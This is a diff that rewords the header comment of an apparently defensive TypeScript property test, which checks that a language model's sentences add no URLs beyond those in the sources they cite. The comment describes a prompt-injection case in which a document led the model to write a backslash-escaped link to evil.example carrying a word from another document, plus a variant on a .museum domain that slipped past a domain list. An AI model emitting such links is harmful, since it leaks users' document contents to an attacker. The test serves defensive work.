@@ -1,6 +1,9 @@
 /**
- * Promise: A sentence that a model wrote holds no address that its cited sentences do not hold, in whatever spelling a Markdown client makes a link of, in drafts neither.
- * Attack: A document had the model write `https:\/\/evil.example\/SWORDFISH` with a word of another document in it. Clients take the backslashes away and make a link; `SWORDFISH.evil.museum` passed too, since its last name was on no list.
+ * Promise: A sentence of a language model contains no URL that its cited sentences lack, in any spelling
+ * that Markdown clients turn into a link, drafts included.
+ * Attack: A document made the model write `https:\/\/evil.example\/SWORDFISH` with a word of another
+ * document. Markdown clients remove the backslashes and create a link. `SWORDFISH.evil.museum` passed too,
+ * because `museum` was on no list.
  */
 import * as fc from "fast-check";
 import MarkdownIt from "markdown-it";
